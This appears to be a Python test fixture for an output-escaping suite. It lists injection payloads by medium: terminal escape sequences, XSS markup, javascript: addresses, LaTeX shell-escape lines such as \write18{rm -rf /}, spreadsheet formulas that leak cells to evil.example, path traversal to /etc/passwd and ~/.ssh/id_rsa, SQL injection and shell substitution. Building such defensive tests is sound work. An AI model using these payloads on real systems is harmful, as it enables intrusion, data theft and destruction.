"""Texts that try to act where they are shown, by the medium that they aim at. Every way out is tried with all of them.

They are what a page may hold and what a person may paste. None may do more than be read.
"""

TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H\x1b[7;33m",
    "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1bP$q\x1b\\ \x9b31m \x90q\x9c \x85 \x84",
    "done\r\x1b[Kpapers: nothing to see",
    "\x1b]52;c;Y3VybCBldmls\x07 \x9d52;c;Y3VybCBldmls\x9c",
    "\x1b_Gi=1,a=T;AAAA\x1b\\ \x1b^x\x1b\\ \x1bXx\x1b\\ \x1bP+q544e\x1b\\ \x1bPq#0\x1b\\",
    "\x1b[21t\x1b[6n\x1b[c\x1b[>q\x05 \x1b[?1000h\x1b[?1049h\x1b[201~ \x1bc \x1b[3J\x1b[9;9H\x1b[s\x1b[u",
    "\x0e\x1b(0lqk\x0f\x1b%@ \x1bN \x8f \x98 \x9e \x9f",
    "over\rwritten\x1b[1A\x1b[2K\x1b[?25l \x1b[2K\rgone \n\x1b[1Aup",
    "gnp.\u202e\u2066exe\u2069\u200f\u061c",
    "in\u200bvis\u2060ible\ufeff\u00ad\U000e0041\ufff9",
    "\u206a\u206f\u180e\U000e0001\U000e0069\U000e0067\U000e006e\U000e007f a\ufe0f\ufe00\U000e0100\U000e01ef",
    "[red]x[/red] [link=https://evil.example]x[/link] [/] :smile: [bold",
    "[@click=app.leave]x[/] [@click='app.exit(1)']x[/] [on red]$x[/]",
    "\x08\x08\x7f\x00\x0b\x0c\x1c\x1d\x1e \u2028 \u2029",
    "half \ud800 \udfff none \ufffe \uffff",
    "%s %n {0} {x.__class__} ${HOME} $(id) `id`",
)
"""Escape sequences, C1 controls, overrides of direction, what cannot be seen, markup of rich, formats."""

MARKUP = (
    "<script>window.acted=1</script>",
    "<img src=x onerror=window.acted=1>",
    '"><svg onload=window.acted=1>',
    "' autofocus onfocus=window.acted=1 x='",
    "</script><script>window.acted=1</script>",
    "{{ 7 * 7 }}{% raw %}",
    "\u2028window.acted=1//",
    "<iframe src=javascript:parent.acted=1></iframe>",
    "</title></textarea></style></pre></svg><svg><script>window.acted=1</script><animate onbegin=window.acted=1>",
    "<svg><a xlink:href=javascript:window.acted=1><text>x</text></a><use href=data:image/svg+xml,x></svg>",
    "<math><mtext></p><style><!--</style><img src=x onerror=window.acted=1>-->",
    "<meta http-equiv=refresh content=0;url=javascript:window.acted=1><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style><p style=x:url(//evil.example)>",
    "<form action=//evil.example><input formaction=javascript:window.acted=1 autofocus onfocus=window.acted=1>",
    "<object data='data:text/html,<script>parent.acted=1</script>'></object><embed src=javascript:window.acted=1>",
    "]]><![CDATA[<script>window.acted=1</script>]]> --><!-- <!--><script>window.acted=1</script>",
    "\\u003cscript\\u003ewindow.acted=1\\x3c/script> &lt;script&gt;window.acted=1&lt;/script&gt; %3Cscript%3E",
    "`${window.acted=1}` \\';window.acted=1// \\\";window.acted=1// {{constructor.constructor('window.acted=1')()}}",
)
"""HTML, SVG, JavaScript, and the language of templates."""

ADDRESSES = (
    "javascript:window.acted=1",
    "JaVaScRiPt:window.acted=1//https://example.org/",
    " java\tscript:window.acted=1",
    "\x01javascript&colon;window.acted=1",
    "&#106;avascript:window.acted=1",
    "%6aavascript:window.acted=1",
    "javascript://example.org/%0Awindow.acted=1",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "feed:javascript:window.acted=1",
    "blob:https://example.org/1",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "run:/usr/bin/calc",
    "run:calc.exe https://example.org/",
    "search-ms:query=x",
    "https://example.org/\"onmouseover=window.acted=1 x='><script>window.acted=1</script>",
    "https://example.org/)](javascript:window.acted=1)",
    "https://example.org/}\\input{x}%\n\\special{x}#&_~^$",
)
"""Addresses that run, open or send something where they are clicked, and ways out of an address."""

LATEX = (
    r"\input{/etc/passwd}",
    r"\write18{rm -rf /}\immediate",
    "}, author = {Nobody}, note = {",
    "{{{ unbalanced",
    "}}} unbalanced",
    "ends with a backslash \\",
    "100% # _ & ~ ^ $ \" ' ` @ < > |",
    "@article{evil, title = {x}}",
    '@comment{ @string{a = {b}} @preamble{"\\input x"}',
    "line\none\r\n\r\ntwo\u2028three\x1b[31m\x00\x07",
    r"$\input{x}$ $}{$ $x^^5c$ $\csname end\endcsname$ $$x$$ $",
    "%\n%}",
    "中文 👍 ﷽ ½ ∑ \U0001d400 e\u0301 \u202e",
    r"^^M \catcode`\%=12 #1 \def\x{\x}\x",
    r"\immediate\openout1=x \special{ps: x} \directlua{os.execute('id')} \input|id \openin2=/etc/passwd \read2 to\x",
    r"\href{run:calc}{x} \url{run:calc} \includegraphics{/etc/passwd} \verbatiminput{x} \lstinputlisting{/etc/passwd}",
    r"^^5cinput{x} ^^5c^^69nput ^^^^005cinput \expandafter\csname input\endcsname{x}",
    r"\begin{filecontents}{x}\end{document} \usepackage{x} \newcommand{\x}{y} \let\par\input \loop\iftrue\repeat",
    r"$\text{\input{x}}$ \(\write18{x}\) \[x\] $x^{\special{x}}$ $\mathrm{\def\x{}}$ $\unknown$ $\frac{1}$ $\left($",
    r"\today \cite{x} \cite[\input{x}]{y} \cite{\input{x}} \url{http://a.example/\input{x}} \input x",
    '", author = {x}, @string{x = "y"} # x, @preamble{ "\\\\write18{id}" }, @include{x}, %} @comment{',
    'a " b "" c',
    "and others and and and",
)
"""LaTeX, BibTeX and biblatex."""

FORMULAS = (
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    'x","=1+1',
    "x;=1+1",
    "x; =1+1;@SUM(A1);\t-2+3",
    "x\t=1+1",
    "x\r=1+1",
    "x\n=1+1\n;@x",
    "\u200b=1+1",
    "\ufeff\xa0\u3000=1+1",
    "\x00\x1b+1+1",
    "﹦1+1",
    "﹢﹣﹫",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!'A1'",
    '=IMPORTXML(CONCAT("https://evil.example?", A1), "//a")',
)
"""Cells that spreadsheets would run."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    "<javascript:alert(1)> <b onclick=x>y</b>",
    "# heading | cell `code` *a* _b_ ~~c~~ $d$ @someone",
    "]: https://evil.example\n\n[x]: y",
    "x\n\n---\n\n- item\n1. item\n> quote\n```\ncode",
    "https://evil.example www.evil.example &lt;b&gt;",
    '[x]: javascript:alert(1) "t"\n[x] [x][] [^1] [^1]: y <https://evil.example> a@evil.example',
    "[x](<javascript:alert(1)>) [x](data:text/html,x) [x](&#106;avascript:alert(1)) ![x][x] [![x](y)](z)",
    "x\n===\n\n    code\n\n<!-- --> <details open ontoggle=alert(1)> <?x?> <![CDATA[x]]> \\<b>",
    "```mermaid\nclick\n```\n~~~\n$$x$$ :smile: - [x] y | --- | :-: |",
)
"""Markdown of CommonMark and of GitHub."""

GRAPHS = (
    '"]; a -> b; n1 [URL="javascript:alert(1)", label="',
    '\\N \\G <b>&amp;</b> \\" %%{init: {}}%%',
    '#quot;]; click n1 "javascript:alert(1)"\n  n9',
    "]]> <!-- --> &#0; &b11; <!ENTITY x>",
    '<<b>html</b>> <table href="javascript:alert(1)"><tr><td>x</td></tr></table> \\l\\r\\T\\H\\E\\L',
    'x" URL="javascript:alert(1)" image="/etc/passwd" shapefile="//evil.example/x" x="\\',
    '%%{init: {"securityLevel": "loose", "themeCSS": "*{}"}}%%\n---\nconfig: {}\n---',
    'x"] --> y["`**z**`"]\n  click n1 call alert()\n  style n1 fill:url(//evil.example)\n  end\n  subgraph',
    "#lt;img src=x onerror=alert(1)#gt; #60;script#62; :::class fa:fa-x <br/>",
    '</data></node></graph><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "&#x3c;x&#x3e; <?xml-stylesheet href='//evil.example'?> &x; <!DOCTYPE x SYSTEM 'file:///etc/passwd'>",
)
"""DOT, Mermaid and GraphML."""

NAMES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\autoexec.bat",
    "con",
    "aux.txt",
    ".",
    "..",
    ".htaccess",
    "-rf",
    "--output=x",
    "a\nb\0c",
    "a" * 300,
    "~/.ssh/id_rsa",
    "%2e%2e%2fpasswd",
    "x.html",
    "x. ",
    "a:b::$DATA",
    "\\\\evil.example\\share",
    "gpj.\u202eexe",
    "COM\u00b9",
    "--help",
    "--db=/tmp/x",
    "a;b",
    "$(touch x)",
    "`touch x`",
    "a|b>c<d&e",
    "\x1b]0;x\x07",
    "file\ud800",
)
"""Names of files, where a key or a name of a page becomes one."""

QUERIES = (
    "'; DROP TABLE papers; --",
    '" OR 1=1 --',
    '") UNION SELECT text FROM pages --',
    "title:* NEAR(a b, 5) {title abstract} : x ^y",
    "a* AND (b OR c) NOT d - \" ' % _ \\ \0",
    "bench:'x' score:>=1 model:\"%\" author:_ tag:') --",
    "key:../../x page:*?[ source:\x00",
    "$(id) `id` ; id | id && id",
)
"""SQL, the syntax of full-text search, and shells."""

EVERY = (*TERMINAL, *MARKUP, *ADDRESSES, *LATEX, *FORMULAS, *MARKDOWN, *GRAPHS, *NAMES, *QUERIES)
